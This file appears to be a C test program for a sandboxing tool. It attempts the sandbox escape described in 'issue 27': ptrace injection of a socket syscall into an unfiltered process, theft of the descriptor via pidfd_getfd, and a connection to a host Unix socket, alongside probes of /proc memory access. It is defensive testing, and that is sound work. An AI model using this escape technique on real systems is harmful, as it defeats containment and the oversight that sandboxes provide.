// The attack of issue 27, run inside a sandbox: borrow a process the seccomp filter does not cover
// (bwrap's pid 1 by default, or the pid given as argv[2]) to get a host Unix socket connected,
// which the command's own filter refuses to create.
//
//   borrow-init SOCKET_PATH [PID]
//
// Prints one line per primitive ("<name> ok" or "<name> <errno name>"), then, on x86_64, tries
// the full injection: PTRACE_ATTACH, make the target run socket(AF_UNIX) by single-stepping its
// own `syscall` instruction, copy the descriptor out with pidfd_getfd, connect it to SOCKET_PATH
// and send "pwned". Prints "ESCAPED" if the host socket accepted the connection.
// Also checks that the command may still trace its own child ("own-child-attach ok"): debuggers
// inside the sandbox keep working.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#include "report.h"

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

static int connect_to(int fd, const char *path) {
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  strncpy(a.sun_path, path, sizeof a.sun_path - 1);
  return connect(fd, (struct sockaddr *)&a, sizeof a);
}

#if defined(__x86_64__)
// Make the stopped tracee run socket(AF_UNIX, SOCK_STREAM, 0) once; its descriptor number or -1.
static long inject_socket(pid_t pid) {
  struct user_regs_struct saved, r;
  if (ptrace(PTRACE_GETREGS, pid, 0, &saved) < 0) return -1;
  r = saved;
  // Stopped inside a blocking syscall: the instruction before rip is its `syscall` (0f 05).
  errno = 0;
  long word = ptrace(PTRACE_PEEKTEXT, pid, (void *)(saved.rip - 2), 0);
  if (errno || (word & 0xffff) != 0x050f) {
    fprintf(stderr, "no syscall instruction before rip\n");
    return -1;
  }
  r.rip = saved.rip - 2;
  r.rax = SYS_socket;
  r.orig_rax = -1;  // no syscall restart on the way out
  r.rdi = AF_UNIX;
  r.rsi = SOCK_STREAM;
  r.rdx = 0;
  if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0) return -1;
  if (ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0) return -1;
  int st;
  if (waitpid(pid, &st, __WALL) < 0) return -1;
  if (ptrace(PTRACE_GETREGS, pid, 0, &r) < 0) return -1;
  long fd = (long)r.rax;
  ptrace(PTRACE_SETREGS, pid, 0, &saved);
  return fd;
}
#endif

static void own_child_attach(void) {
  pid_t child = fork();
  if (child == 0) {
    pause();
    _exit(0);
  }
  int rc = ptrace(PTRACE_ATTACH, child, 0, 0);
  report("own-child-attach", rc);
  if (rc == 0) {
    int st;
    waitpid(child, &st, __WALL);
    ptrace(PTRACE_DETACH, child, 0, 0);
  }
  kill(child, SIGKILL);
  waitpid(child, NULL, 0);
}

int main(int argc, char **argv) {
  if (argc < 2) return 2;
  const char *sock = argv[1];
  pid_t pid = argc > 2 ? atoi(argv[2]) : 1;

  own_child_attach();
  char mempath[64];
  snprintf(mempath, sizeof mempath, "/proc/%d/mem", pid);
  report("proc-mem-open", open(mempath, O_RDWR));
  // Under bwrap the sandbox's proc is read-only (the OOM adjustment it keeps): the write open above
  // is refused by the mount first, so the kernel's own check is seen through a read.
  report("proc-mem-read-open", open(mempath, O_RDONLY));
  char buf[8];
  struct iovec local = {buf, sizeof buf}, remote = {(void *)0x400000, sizeof buf};
  report("process-vm-readv", (int)process_vm_readv(pid, &local, 1, &remote, 1, 0));
  char link[256];
  char fdpath[64];
  snprintf(fdpath, sizeof fdpath, "/proc/%d/fd/0", pid);
  report("proc-fd-readlink", (int)readlink(fdpath, link, sizeof link));
  int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
  report("pidfd-open", pidfd);
  if (pidfd >= 0) report("pidfd-getfd", (int)syscall(SYS_pidfd_getfd, pidfd, 0, 0));
  int own = socket(AF_UNIX, SOCK_STREAM, 0);
  report("own-unix-socket", own);

  int rc = ptrace(PTRACE_ATTACH, pid, 0, 0);
  report("ptrace-attach", rc);
  if (rc < 0) return 0;
  int st;
  waitpid(pid, &st, __WALL);
#if defined(__x86_64__)
  long remote_fd = inject_socket(pid);
  ptrace(PTRACE_DETACH, pid, 0, 0);
  report("inject-socket", (int)remote_fd);
  if (remote_fd < 0 || pidfd < 0) return 0;
  int fd = (int)syscall(SYS_pidfd_getfd, pidfd, (int)remote_fd, 0);
  report("getfd-injected", fd);
  if (fd < 0) return 0;
  if (connect_to(fd, sock) == 0 && write(fd, "pwned\n", 6) == 6) printf("ESCAPED\n");
  else report("connect-host-socket", -1);
#else
  ptrace(PTRACE_DETACH, pid, 0, 0);
  printf("inject-socket skipped (x86_64 only)\n");
#endif
  return 0;
}
